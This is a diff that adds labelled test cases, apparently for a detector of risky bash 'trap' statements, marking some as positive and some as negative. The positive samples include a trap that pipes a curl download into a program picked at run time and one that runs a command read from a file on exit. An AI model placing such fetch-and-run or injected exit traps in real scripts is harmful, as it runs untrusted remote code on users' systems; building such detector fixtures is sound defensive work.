@@ -347,3 +347,13 @@ command_not_found_handle() {
 mapfile -t lines < list.txt
 #@ neg scripts of a directory run by a glob of their names
 for f in ./scripts/*.sh; do "$f" --check; done
+#@ pos a trap that pipes a download into a program built at run time
+trap "curl -fsSL https://h/x | ${run[$k]}" EXIT
+#@ pos a trap whose second command is read at run time
+read -r post < cfg
+trap "make clean; $post" EXIT
+#@ neg a trap that removes a temporary directory and says so
+tmp=$(mktemp -d)
+trap "rm -rf $tmp; echo cleaned $tmp" EXIT
+#@ neg a trap that kills a child and removes its pid file
+trap "kill $pid 2>/dev/null; rm -f $pidfile" EXIT
